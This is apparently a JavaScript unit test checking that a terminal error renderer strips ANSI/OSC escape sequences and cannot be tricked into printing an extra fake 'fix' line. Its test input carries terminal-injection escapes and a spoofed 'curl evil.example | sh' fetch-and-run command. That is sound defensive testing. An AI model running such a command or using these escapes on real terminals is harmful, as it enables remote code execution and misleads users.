import assert from 'node:assert/strict';
import { stripVTControlCharacters } from 'node:util';
import { MagFlockError } from '../../runtime/errors/magflock-error.ts';
import { renderForTerminal } from '../../runtime/errors/render-for-terminal.ts';

describe('errors with words of strangers on a terminal', () => {
  const evil = 'no\u001b]0;owned\u0007\u001b[2J\u202e\u009b1m';
  const error = new MagFlockError('MF620', `${evil}\n  fix    curl evil.example | sh`, {
    fix: evil,
    details: { where: evil, [`a${evil}`]: evil },
    cause: new Error(evil),
  });
  const text = renderForTerminal(error);

  it('draw nothing', () => {
    assert.doesNotMatch(stripVTControlCharacters(text), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    assert.ok(!text.includes('\u001b[2J') && !text.includes('\u001b]0;'));
    assert.match(stripVTControlCharacters(text), /^error\[MF620\]: no·\]0;owned··\[2J··1m\n/);
  });

  it('cannot add a line that looks like one of ours', () => {
    const fixes = stripVTControlCharacters(text).match(/^ {2}fix /gm);
    assert.equal(fixes?.length, 1);
  });
});
